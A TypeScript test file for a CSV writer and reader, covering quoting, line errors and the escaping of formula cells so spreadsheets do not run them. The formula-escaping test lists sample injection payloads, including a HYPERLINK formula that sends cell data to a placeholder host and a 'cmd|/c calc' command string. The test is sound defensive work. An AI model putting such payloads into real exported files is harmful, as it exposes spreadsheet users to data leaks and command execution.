// The one CSV writer and reader: formula cells are defused for spreadsheets (#14), numbers stay
// numbers, and what the writer wrote reads back exactly.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { CsvSyntaxError, csvText, readCsvRows } from '../../src/main/core/csv/csv-text';

describe('csv-text', () => {
  it('readCsvRows: quotes, escaped quotes, newlines in quotes, CRLF, BOM, blank lines', () => {
    const text = '\ufeffa,b\r\n"x, y","say ""hi"""\n\n"multi\nline",z\nlast,';
    assert.deepEqual(readCsvRows(text), [
      { line: 1, cells: ['a', 'b'] },
      { line: 2, cells: ['x, y', 'say "hi"'] },
      { line: 4, cells: ['multi\nline', 'z'] },
      { line: 6, cells: ['last', ''] },
    ]);
  });

  it('an unclosed quote is an error that names its line', () => {
    assert.throws(
      () => readCsvRows('a,b\nc,"d\ne,f\n'),
      (error: unknown) => error instanceof CsvSyntaxError && error.line > 1,
    );
  });

  it('cells starting with = + - @ tab or CR are written so spreadsheets do not run them', () => {
    const evil = [
      '=HYPERLINK("http://x.example/?"&A1,"click")',
      '+1+cmd|/c calc',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
    ];
    const text = csvText(['name', 'n'], [...evil.map((e) => [e, -33.86]), ['plain', 2]]);
    assert.equal(
      text,
      [
        'name,n',
        `"'=HYPERLINK(""http://x.example/?""&A1,""click"")",-33.86`,
        "'+1+cmd|/c calc,-33.86",
        "'-2+3,-33.86",
        "'@SUM(A1),-33.86",
        "'\t=1,-33.86",
        `"'\r=1",-33.86`,
        'plain,2',
        '',
      ].join('\n'),
    );
    // Negative numbers stay numbers, and our own reader gives back exactly what was written.
    assert.deepEqual(
      readCsvRows(text).map((r) => r.cells),
      [['name', 'n'], ...evil.map((e) => [e, '-33.86']), ['plain', '2']],
    );
  });

  it('null is an empty cell, booleans are true/false, one newline per row', () => {
    assert.equal(csvText(['a', 'b', 'c'], [[null, true, 'x,y']]), 'a,b,c\n,true,"x,y"\n');
  });
});
